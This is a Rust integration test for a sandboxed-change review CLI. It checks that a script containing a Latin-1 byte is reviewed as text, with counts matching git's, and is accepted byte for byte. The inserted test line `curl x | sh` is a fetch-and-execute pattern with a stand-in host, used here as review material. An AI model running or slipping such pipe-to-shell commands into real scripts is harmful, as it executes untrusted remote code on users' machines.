//! Text is text as git sees it, through the real CLI: a step adds `curl x | sh` to a script
//! holding one Latin-1 byte. The patch carries the file as a git binary patch (it is not
//! UTF-8), but git calls it text, and so must the review: the added line shown, the counts
//! those of `git diff --numstat` on the same change, `review --json` agreeing; and `accept`
//! writes exactly the step's bytes.
//!
//! Needs native sandboxes and git; prints `SKIP <reason>` without them (fails under
//! `CI=true`).

use std::path::Path;
use std::process::{Command, Stdio};

use serde_json::Value;

mod support;

use smithers_test_support::skip_or_fail;
use support::native::{bin, git, sandboxes_usable};

/// The script before the step: a comment with a Latin-1 `é` (0xe9), then plain lines.
const OLD: &[u8] = b"#!/bin/sh\n# caf\xe9 au lait\necho one\necho two\necho three\necho four\n";

/// The step rewrites the script in place with `curl x | sh` after the comment (printf's
/// octal escape writes the same 0xe9 byte).
const STEP: &str = r"printf '#!/bin/sh\n# caf\351 au lait\ncurl x | sh\necho one\necho two\necho three\necho four\n' > run.sh";

fn new_content() -> Vec<u8> {
    let cut = b"#!/bin/sh\n# caf\xe9 au lait\n".len();
    [&OLD[..cut], b"curl x | sh\n", &OLD[cut..]].concat()
}

/// `git diff --numstat` of the same change in a git repository: `added\tremoved`.
fn git_numstat(old: &[u8], new: &[u8]) -> String {
    let repo = tempfile::tempdir().unwrap();
    git(repo.path(), &["init", "-q"]);
    std::fs::write(repo.path().join("run.sh"), old).unwrap();
    git(repo.path(), &["add", "run.sh"]);
    git(repo.path(), &["commit", "-q", "-m", "base"]);
    std::fs::write(repo.path().join("run.sh"), new).unwrap();
    let line = git(repo.path(), &["diff", "--numstat"]);
    assert!(line.ends_with("\trun.sh\n"), "{line:?}");
    line.trim_end()
        .trim_end_matches("run.sh")
        .trim_end()
        .to_string()
}

fn run_step(root: &Path) -> String {
    let out = bin()
        .args(["run", "--json", "--root", root.to_str().unwrap()])
        .args(["--", "sh", "-c", STEP])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "{e}: {}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    });
    assert_eq!(doc["status"], "review", "{doc}");
    doc["sandboxId"].as_str().unwrap().to_string()
}

fn cli(args: &[&str]) -> std::process::Output {
    let out = bin().args(args).stdin(Stdio::null()).output().unwrap();
    assert!(
        out.status.success(),
        "{args:?}: {}\n{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

#[test]
fn a_latin1_script_is_reviewed_as_text_and_accepted_exactly() {
    if !sandboxes_usable() {
        return;
    }
    if Command::new("git").arg("--version").output().is_err() {
        skip_or_fail("git not found");
        return;
    }
    let root = tempfile::tempdir().unwrap();
    std::fs::write(root.path().join("run.sh"), OLD).unwrap();
    let root_arg = root.path().to_str().unwrap();
    let id = run_step(root.path());
    let new = new_content();
    let numstat = git_numstat(OLD, &new);
    assert_eq!(numstat, "1\t0");

    // The human review: the added line as text, the byte escaped, git's counts.
    let out = cli(&["review", &id, "--root", root_arg]);
    let text = String::from_utf8(out.stdout).expect("the review is UTF-8");
    assert!(text.contains("\n+curl x | sh\n"), "{text}");
    assert!(text.contains("\n # caf\\xe9 au lait\n"), "{text}");
    assert!(text.contains("\n run.sh | 1 +\n"), "{text}");
    assert!(
        text.contains("\n 1 file changed, 1 insertion(+)\n"),
        "{text}"
    );
    assert!(text.contains(", 1 changed line(s)\n"), "{text}");
    assert!(
        !text.contains("Bin") && !text.contains("GIT binary patch"),
        "{text}"
    );
    assert!(!text.contains("warning:"), "{text}");

    // --json agrees: the same counts, not binary, nothing left unshown; `diff` stays the
    // exact patch accept applies.
    let out = cli(&["review", &id, "--json", "--root", root_arg]);
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    let patches = doc["patches"].as_array().unwrap();
    assert_eq!(patches.len(), 1, "{doc}");
    let p = &patches[0];
    assert_eq!(p["path"], "run.sh");
    assert_eq!(p["binary"], false, "{doc}");
    assert_eq!(
        format!("{}\t{}", p["added"], p["removed"]),
        numstat,
        "{doc}"
    );
    assert!(doc["findings"].get("notShownAsText").is_none(), "{doc}");
    assert_eq!(doc["findings"]["controlCharacters"], Value::Array(vec![]));
    assert!(doc["diff"].as_str().unwrap().contains("GIT binary patch"));

    // Accept writes exactly the step's bytes.
    cli(&["accept", &id, "--root", root_arg]);
    assert_eq!(std::fs::read(root.path().join("run.sh")).unwrap(), new);
}
